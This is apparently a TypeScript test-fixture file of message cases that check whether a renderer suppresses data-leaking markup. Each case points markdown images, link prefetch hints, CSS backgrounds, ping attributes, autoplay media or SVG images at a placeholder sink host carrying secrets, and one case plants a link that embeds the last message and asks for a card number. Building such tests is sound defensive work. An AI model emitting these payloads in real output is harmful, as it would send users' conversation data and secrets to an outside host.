/** Messages that want to tell somebody who reads them, and what. Nothing is fetched by reading. */
import type { MessageCase } from './message-case.ts'

export const EXFIL_CASES: readonly MessageCase[] = [
  { title: 'an image', content: '![status]({sink}/image?d=secret)', shows: 'status' },
  { title: 'an image without words', content: 'Look ![]({sink}/blank?d=secret)', shows: 'Look' },
  {
    title: '[RE-002] an image whose address stands elsewhere',
    content: '![status][p] and [more][p]\n\n[p]: {sink}/reference?d=secret',
    shows: '![status][p] and [more][p]',
  },
  { title: 'an image in a link', content: '[![a]({sink}/inner)]({sink}/outer)', shows: 'a' },
  {
    title: 'pictures in markup',
    content:
      '<picture><source srcset="{sink}/set 2x"><img src="{sink}/img" loading=eager></picture>',
  },
  {
    title: '[RE-004] hints to the browser',
    content:
      '<link rel=preconnect href={sink}> <link rel=prefetch href={sink}/prefetch> <link rel=dns-prefetch href={sink}>',
    shows: 'rel=preconnect',
  },
  {
    title: '[RE-005] an address in a style',
    content: '<b style="background:url({sink}/background)">x</b>',
    shows: 'style="background:url(',
  },
  { title: '[RE-007] a bare address', content: 'See {sink}/preview?d=secret' },
  {
    title: 'a ping',
    content: '<a href="https://shop.example/" ping="{sink}/ping">x</a>',
    shows: '>x</a>',
  },
  {
    title: 'sound and film',
    content: '<audio autoplay src="{sink}/sound"></audio><video poster="{sink}/poster"></video>',
    shows: '<audio autoplay',
  },
  {
    title: 'a filter of a drawing',
    content:
      '<svg><filter><feImage href="{sink}/filter"/></filter><image href="{sink}/svg"/></svg>',
    shows: '<svg><filter>',
  },
  {
    title: '[RE-012] a request for the last message in an address',
    content: '[Verify]({sink}/verify?c={{last_message}}) and paste your card number.',
    shows: 'Verify ({host}) and paste your card number.',
    links: [['Verify', '{sink}/verify?c={{last_message}}']],
  },
]
